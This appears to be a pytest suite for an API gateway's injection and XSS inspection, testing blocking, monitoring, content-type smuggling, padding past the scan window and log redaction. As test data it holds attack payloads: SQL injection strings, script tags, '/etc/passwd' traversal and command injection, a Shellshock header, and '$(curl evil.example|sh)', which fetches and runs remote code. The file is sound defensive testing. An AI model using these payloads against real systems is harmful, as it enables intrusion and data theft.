"""Injection and XSS inspection through the real gateway: attacks in every place a client controls are
refused (block) or recorded (monitor) before anything is forwarded, ordinary text passes, the JSON body is
parsed once for validation and inspection together, and the event names the rule without leaking cookies."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from bastion.events.query import EventFilter, query_events
from bastion.store.database import open_database
from tests.support import EchoUpstream, GatewayThread, load_text, raw_exchange, request, status_of

from ._identity import wait_for

SPEC = """
openapi: 3.1.0
info: {title: t, version: "1"}
paths:
  /validated/notes:
    post:
      requestBody:
        content:
          application/json:
            schema: {type: object, properties: {text: {type: string}}}
      responses: {"200": {description: ok}}
"""


def config(upstream_port: int, tmp: Path, default: str = "off") -> str:
    (tmp / "spec.yaml").write_text(SPEC)
    return f"""
listen: 127.0.0.1:0
storage: {{database: "sqlite:///{tmp}/b.db", state: "memory://"}}
inspection: {{default: {default}}}
services:
  - name: app
    upstream: http://127.0.0.1:{upstream_port}
    inspect: block
    routes:
      - {{path: "/blocked/{{rest:path}}", methods: [GET, POST], auth: none}}
      - {{path: "/watched/{{rest:path}}", methods: [GET, POST], auth: none, inspect: monitor}}
      - {{path: "/open/{{rest:path}}", methods: [GET, POST], auth: none, inspect: off}}
  - name: other
    upstream: http://127.0.0.1:{upstream_port}
    routes:
      - {{path: "/default/{{rest:path}}", methods: [GET], auth: none}}
  - name: validated
    upstream: http://127.0.0.1:{upstream_port}
    openapi: {tmp}/spec.yaml
    inspect: block
    routes:
      - {{path: /validated/notes, methods: [POST], auth: none}}
"""


class App:
    def __init__(self, upstream: EchoUpstream, gateway: GatewayThread, tmp: Path) -> None:
        self.upstream, self.gateway, self.tmp = upstream, gateway, tmp

    def call(
        self, method: str, path: str, *, body: bytes | None = None, headers: dict[str, str] | None = None
    ) -> tuple[int, Any]:
        before = len(self.upstream.requests)
        status, _, out = request(self.gateway.port, method, path, body=body, headers=headers or {})
        self.forwarded = len(self.upstream.requests) > before
        return status, json.loads(out) if out else None

    def events(self, type_: str) -> list[dict[str, Any]]:
        engine = open_database(f"sqlite:///{self.tmp}/b.db")
        try:
            return query_events(engine, EventFilter(type=type_), page_size=1000)[0]
        finally:
            engine.dispose()


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[App]:
    tmp = tmp_path_factory.mktemp("inspect")
    with EchoUpstream() as upstream, GatewayThread(load_text(config(upstream.port, tmp))) as gateway:
        yield App(upstream, gateway, tmp)


JSON = {"content-type": "application/json"}
FORM = {"content-type": "application/x-www-form-urlencoded"}

SQLI = quote("1' OR '1'='1' --")
XSS = quote("<script>alert(1)</script>")
ATTACKS = [
    # (where, method, path, body, headers, family)
    ("query", "GET", "/blocked/search?q=" + SQLI, None, {}, "sqli"),
    ("query, union", "GET", "/blocked/search?id=" + quote("1 UNION/**/SELECT password FROM users"), None, {},
     "sqli"),
    ("query, double-encoded", "GET", "/blocked/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", None,
     {}, "xss"),
    ("path segment", "GET", "/blocked/users/" + quote("1'or'1'='1", safe=""), None, {}, "sqli"),
    ("query traversal", "GET", "/blocked/download?file=" + quote("../../../../etc/passwd"), None, {}, "lfi"),
    ("json nested", "POST", "/blocked/notes", json.dumps({"a": [{"b": "x; cat /etc/passwd"}]}).encode(),
     JSON, "rce"),
    ("json key", "POST", "/blocked/notes", json.dumps({"<script>alert(1)</script>": 1}).encode(), JSON,
     "xss"),
    ("form", "POST", "/blocked/login", b"user=admin%27--&pass=x", FORM, "sqli"),
    ("user-agent", "GET", "/blocked/x", None, {"user-agent": "() { :; }; /bin/bash -c 'id'"}, "rce"),
    ("referer", "GET", "/blocked/x", None, {"referer": "https://a.example/?q=<script>alert(1)</script>"},
     "xss"),
    ("cookie", "GET", "/blocked/x", None, {"cookie": "session=abc; pref=' or 1=1--"}, "sqli"),
    ("custom header", "GET", "/blocked/x", None, {"x-forwarded-user": "$(curl evil.example|sh)"}, "rce"),
    ("text body", "POST", "/blocked/raw", b"<iframe src=javascript:alert(1)>",
     {"content-type": "text/plain"}, "xss"),
]


@pytest.mark.parametrize(
    ("method", "path", "body", "headers", "family"), [a[1:] for a in ATTACKS], ids=[a[0] for a in ATTACKS]
)
def test_attacks_anywhere_are_blocked_and_never_forwarded(
    app: App, method: str, path: str, body: bytes | None, headers: dict[str, str], family: str
) -> None:
    status, reply = app.call(method, path, body=body, headers=headers)
    assert status == 403 and reply["code"] == "attack_detected", reply
    assert not app.forwarded
    text = json.dumps(reply).lower()
    assert "script" not in text and "passwd" not in text and "union" not in text  # nothing echoed


@pytest.mark.parametrize(
    "types",
    [(b"image/png", b"application/json"), (b"application/json", b"image/png")],
    ids=["png-first", "json-first"],
)
def test_a_second_content_type_cannot_smuggle_a_body_past_inspection(
    app: App, types: tuple[bytes, ...]
) -> None:
    """One Content-Type says "binary, not read", the other says JSON: an upstream that believes the
    JSON one would get an uninspected attack. Two Content-Types are refused before any check."""
    body = json.dumps({"q": "1' OR '1'='1' --"}).encode()
    before = len(app.upstream.requests)
    reply = raw_exchange(
        app.gateway.port,
        b"POST /blocked/notes HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
        + b"".join(b"Content-Type: %s\r\n" % t for t in types)
        + b"Content-Length: %d\r\n\r\n%s" % (len(body), body),
    )
    assert status_of(reply) == 400 and b'"code":"content_type_repeated"' in reply
    assert len(app.upstream.requests) == before
    assert b"OR" not in reply.partition(b"\r\n\r\n")[2]  # nothing echoed


PROSE = (
    "Please select the items from the list and update your order; drop me a line if anything is missing."
)
BROWSER = {
    "user-agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "referer": "https://shop.example.com/search?q=garden+tools&page=2",
    "cookie": "session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln; theme=dark",
}
BENIGN = [
    ("GET", "/blocked/search?q=" + quote("O'Reilly"), None, {}),
    ("GET", "/blocked/search?q=" + quote("select your plan"), None, {}),
    ("GET", "/blocked/search?q=" + quote("1 or 2 items"), None, {}),
    ("GET", "/blocked/search?q=" + quote("I <3 this shop"), None, {}),
    ("POST", "/blocked/notes", json.dumps({"text": PROSE}).encode(), JSON),
    ("POST", "/blocked/login", b"user=ada%40example.com&pass=correct+horse+battery+staple", FORM),
    ("GET", "/blocked/x", None, BROWSER),
    # a binary body is not read, whatever its bytes look like
    ("POST", "/blocked/upload", b"\x89PNG' OR 1=1 -- <script>", {"content-type": "image/png"}),
]


@pytest.mark.parametrize(("method", "path", "body", "headers"), BENIGN)
def test_ordinary_traffic_passes(
    app: App, method: str, path: str, body: bytes | None, headers: dict[str, str]
) -> None:
    status, reply = app.call(method, path, body=body, headers=headers)
    assert status == 200, reply
    assert app.forwarded


def test_monitor_forwards_and_records_the_finding(app: App) -> None:
    status, _ = app.call("GET", "/watched/search?q=" + SQLI, headers={"cookie": "id=' or 1=1--"})
    assert status == 200 and app.forwarded
    flagged = wait_for(lambda: app.events("request.flagged"), what="a request.flagged event")
    data = flagged[-1]["data"]
    assert data["family"] == "sqli" and data["location"].startswith(("query.q", "cookie."))
    assert flagged[-1]["severity"] == "warning" and flagged[-1]["route"].startswith("app:")


def test_the_event_never_carries_a_cookie_value(app: App) -> None:
    status, _ = app.call("GET", "/blocked/x", headers={"cookie": "session=' or 1=1-- secretsession"})
    assert status == 403
    denied = wait_for(
        lambda: [e for e in app.events("request.denied") if e["reason"] == "attack_detected"
                 and e["data"]["location"].startswith("cookie")],
        what="the cookie finding",
    )
    assert "excerpt" not in denied[-1]["data"]
    assert "secretsession" not in json.dumps(denied[-1])


def test_off_and_defaults(app: App) -> None:
    attack = "?q=" + XSS
    assert app.call("GET", "/open/x" + attack)[0] == 200  # the route says off
    assert app.call("GET", "/default/x" + attack)[0] == 200  # inspection.default: off


def test_the_default_applies_where_nothing_is_said(tmp_path: Path) -> None:
    with EchoUpstream() as upstream, GatewayThread(load_text(config(upstream.port, tmp_path, "block"))) as gw:
        status, _, _ = request(gw.port, "GET", "/default/x?q=" + XSS)
        assert status == 403


def test_validation_and_inspection_parse_the_json_body_once(
    app: App, monkeypatch: pytest.MonkeyPatch
) -> None:
    import bastion.checks.json_body as json_body

    calls = []
    real = json_body.parse_json

    def counting(raw: bytes, limits: Any) -> Any:
        calls.append(raw)
        return real(raw, limits)

    monkeypatch.setattr(json_body, "parse_json", counting)
    status, _ = app.call("POST", "/validated/notes", body=b'{"text": "hello"}', headers=JSON)
    assert status == 200 and len(calls) == 1
    attack = b'{"text": "<script>alert(1)</script>"}'
    status, reply = app.call("POST", "/validated/notes", body=attack, headers=JSON)
    assert status == 403 and reply["code"] == "attack_detected" and len(calls) == 2
    status, reply = app.call("POST", "/validated/notes", body=b'{"text": 5}', headers=JSON)
    assert status == 422 and len(calls) == 3  # validation refuses first; inspection never parses again


def test_json_limits_apply_to_inspected_bodies_without_a_schema(app: App) -> None:
    status, reply = app.call("POST", "/blocked/notes", body=b"[" * 100 + b"]" * 100, headers=JSON)
    assert status == 400 and reply["code"] == "json_limit_exceeded"
    status, reply = app.call("POST", "/blocked/notes", body=b'{"a": 1, "a": 2}', headers=JSON)
    assert status == 400 and reply["code"] == "json_invalid"
    assert not app.forwarded


def test_padding_a_payload_past_the_scan_window_does_not_hide_it(app: App) -> None:
    padding = "All good here. " * 400  # ~6 KiB of ordinary text, past the engine's 4 KiB window
    for text in (padding + "' OR 1=1 --", padding[:4090] + "<script>alert(1)</script>" + padding):
        body = json.dumps({"text": text}).encode()
        status, reply = app.call("POST", "/blocked/notes", body=body, headers=JSON)
        assert status == 403 and reply["code"] == "attack_detected"
    body = json.dumps({"text": padding * 3}).encode()
    status, _ = app.call("POST", "/blocked/notes", body=body, headers=JSON)
    assert status == 200  # long ordinary text is fine


def test_a_value_too_long_to_inspect_fails_closed(app: App) -> None:
    huge = "a" * (64 * 1024 + 1)
    status, reply = app.call("POST", "/blocked/notes", body=json.dumps({"text": huge}).encode(), headers=JSON)
    assert status == 403 and reply["code"] == "attack_detected"
    denied = wait_for(
        lambda: [e for e in app.events("request.denied") if e["data"].get("rule") == "inspection.too_long"],
        what="the too_long finding",
    )
    assert denied[-1]["data"]["location"] == "body.text"
